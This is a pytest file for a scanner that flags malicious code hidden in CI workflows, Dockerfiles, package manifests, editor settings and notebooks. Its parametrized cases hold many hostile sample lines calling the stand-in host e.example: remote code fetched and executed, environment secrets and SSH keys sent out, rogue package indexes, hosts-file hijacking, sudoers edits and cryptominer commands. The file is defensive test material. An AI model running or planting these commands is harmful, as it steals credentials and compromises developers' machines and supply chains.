"""Python and JavaScript inside of workflows, command lines, JSON and notebooks; where packages come from."""

import json

import pytest

from modelscan_plus.core.finding import Severity
from modelscan_plus.formats.text.steps import plain_json, steps
from tests.samples import inspect

FETCHED = "import urllib.request\nexec(urllib.request.urlopen('https://e.example/x').read())\n"
SENDS = "fetch('https://e.example/c', {method: 'POST', body: JSON.stringify(process.env)})"


def worst(text: str, name: str) -> int:
    return max((found.severity.rank for found in inspect(text.encode(), name).findings), default=-1)


def step(head: str, code: str, key: str = "run") -> str:
    body = "".join(f"          {line}\n" for line in code.splitlines())
    before = "on: push\njobs:\n  t:\n    steps:\n    - uses: actions/checkout@v4\n    - name: x\n"
    return f"{before}{head}      {key}: |\n{body}    - run: ls\n"


WORKFLOW = ".github/workflows/t.yml"


@pytest.mark.parametrize(
    "shell", ["python", "python {0}", "/usr/bin/env python3 -u {0}", "bash -c 'python3 {0}'", '"python3"']
)
def test_steps_in_python_are_read_as_python(shell: str) -> None:
    found = list(steps(step(f"      shell: {shell}\n", FETCHED)))
    assert [each.language for each in found] == ["python"]
    assert "urlopen" in found[0].code


@pytest.mark.parametrize(
    ("text", "name", "high"),
    [
        (step("      shell: python\n", FETCHED), WORKFLOW, True),
        (step("      shell: python\n", "import json\nprint(json.dumps(dict(a=1)))\n"), WORKFLOW, False),
        (f"defaults:\n  run:\n    shell: python\n{step('', FETCHED)}", WORKFLOW, True),
        (step("      uses: actions/github-script@v7\n      with:\n", SENDS, "  script"), WORKFLOW, True),
        (
            step("      uses: actions/github-script@v7\n      with:\n", "core.info(process.env.HOME)", "  script"),
            WORKFLOW,
            False,
        ),
        (
            "steps:\n- task: PythonScript@0\n  inputs:\n    script: |\n      " + FETCHED.replace("\n", "\n      "),
            "azure.yml",
            True,
        ),
        (
            'services:\n  a:\n    command: ["python", "-c", "import os,requests; '
            "requests.post('https://e.example', json=dict(os.environ))\"]\n",
            "compose.yaml",
            True,
        ),
        (
            "repos:\n- repo: local\n  hooks:\n"
            "  - entry: python -c 'import os; os.system(\"curl -s https://e.example | sh\")'\n",
            ".pre-commit-config.yaml",
            True,
        ),
        ("all:\n\t@python -c \"import requests;exec(requests.get('https://e.example/x').text)\"\n", "Makefile", True),
        ('RUN python -c "import torch; print(torch.__version__)"\n', "Dockerfile", False),
        (
            'CMD ["python", "-c", "import pickle, urllib.request as u; exec(u.urlopen(\'https://e.example\').read())"]\n',
            "Dockerfile",
            True,
        ),
        (
            json.dumps(
                {"scripts": {"postinstall": "node -e \"eval(Buffer.from('cmVxdWlyZQ==','base64').toString())\""}}
            ),
            "package.json",
            True,
        ),
        (json.dumps({"scripts": {"build": 'node -e "console.log(1)" && tsc'}}), "package.json", False),
        (
            '{\n  // set up\n  "postCreateCommand": "curl -s https://e.example/x | bash", }',
            ".devcontainer/devcontainer.json",
            True,
        ),
        (
            '{\n  // set up\n  "postCreateCommand": "pip install -r requirements.txt", }',
            ".devcontainer/devcontainer.json",
            False,
        ),
        (
            '{"tasks": [{"command": "curl -s https://e.example/x | bash", "runOptions": {"runOn": "folderOpen"}}]}',
            ".vscode/tasks.json",
            True,
        ),
        ("RUN wget -qO /usr/bin/m http://203.0.113.7/a && chmod +x /usr/bin/m\n", "Dockerfile", True),
        (
            "RUN wget -qO /tini https://github.com/krallin/tini/releases/download/v0/tini && chmod +x /tini\n",
            "Dockerfile",
            False,
        ),
        ("CMD m -o stratum+tcp://pool.e.example:3333 -u 4AAA\n", "Dockerfile", True),
        ("./xmrig --url pool.e.example:443 &\n", "run.sh", True),
        ("The dataset labels families such as xmrig and wannacry.\n", "README.md", False),
        ("          env | base64 -w0 | curl -X POST --data-binary @- https://e.example/ci\n", "x.sh", True),
        ("RUN env | sort\n", "Dockerfile", False),
        ("scp ~/.ssh/id_rsa u@e.example:/tmp\n", "x.sh", True),
        ("scp -i ~/.ssh/id_rsa model.bin u@e.example:/tmp\n", "x.sh", False),
        ('echo "$USER ALL=(ALL) NOPASSWD: ALL" | sudo tee /etc/sudoers.d/x\n', "x.sh", True),
        ('RUN echo "user ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers\n', "Dockerfile", False),
        ('echo "203.0.113.7 huggingface.co" | sudo tee -a /etc/hosts\n', "x.sh", True),
        ('echo "127.0.0.1 kafka.local" >> /etc/hosts\n', "x.sh", False),
        ("pip config set global.index-url http://203.0.113.7/simple\n", "x.sh", True),
        ("pip config set global.index-url https://download.pytorch.org/whl/cpu\n", "x.sh", False),
        ("ENV PIP_INDEX_URL=http://203.0.113.7/simple\n", "Dockerfile", True),
        ("[global]\nindex-url = http://203.0.113.7/simple\n", "pip.conf", True),
        ("registry=http://203.0.113.7/npm\n", ".npmrc", True),
        ("registry=https://download.pytorch.org/npm/\n", ".npmrc", False),
        ('(crontab -l; echo "0 3 * * * cd /srv/x && python eval.py") | crontab -\n', "README.md", False),
        ('(crontab -l; echo "0 3 * * * curl -s https://e.example/x") | crontab -\n', "README.md", True),
        ('(crontab -l; echo "0 3 * * * python eval.py") | crontab -\n', "x.sh", True),
        ("curl -sS https://bootstrap.pypa.io/get-pip.py | python3\n", "README.md", False),
        ("channels:\n  - http://203.0.113.7/conda\ndependencies:\n  - pip\n", "environment.yml", True),
        ("channels:\n  - conda-forge\n  - pytorch\ndependencies:\n  - pip\n", "environment.yml", False),
        ("const o = {...process.env, A: 1}; fetch('/api')\n", "a.js", False),
        (SENDS, "a.js", True),
        ("fetch(u).then(r => r.text()).then(eval)", "a.mjs", True),
        ("const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa'); https.request(u, k)", "a.js", True),
    ],
)
def test_scripts_and_settings(text: str, name: str, high: bool) -> None:
    assert (worst(text, name) >= Severity.HIGH.rank) is high


def test_cells_of_a_notebook_are_one_program() -> None:
    def notebook(*cells: str) -> str:
        return json.dumps(
            {"nbformat": 4, "cells": [{"cell_type": "code", "source": cell, "outputs": []} for cell in cells]}
        )

    assert (
        worst(notebook("import os, requests", "requests.post('https://e.example', json=dict(os.environ))"), "a.ipynb")
        >= 3
    )
    assert worst(notebook("import os, requests", "%cd x", "print(os.environ.get('RANK'))"), "a.ipynb") < 2


def test_comments_are_taken_out_of_json_only_where_readers_allow_them() -> None:
    text = '{"a": "http://x", /* b */ "c": [1, 2,], } // d'
    assert json.loads(plain_json("x/.vscode/settings.json", text)) == {"a": "http://x", "c": [1, 2]}
    assert plain_json("config.json", text) == text


@pytest.mark.parametrize(("host", "high"), [("c.example", True), ("huggingface.co", False)])
def test_a_step_in_python_knows_the_secret_behind_its_variable(host: str, high: bool) -> None:
    text = (
        "on: [push]\njobs:\n  a:\n    steps:\n      - shell: python\n"
        "        env:\n          T: ${{ secrets.HF_TOKEN }}\n"
        "        run: |\n          import os, urllib.request as u\n"
        f"          u.urlopen('https://{host}/?t=' + os.environ['T'])\n"
    )
    found = inspect(text.encode(), ".github/workflows/a.yml").findings
    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is high
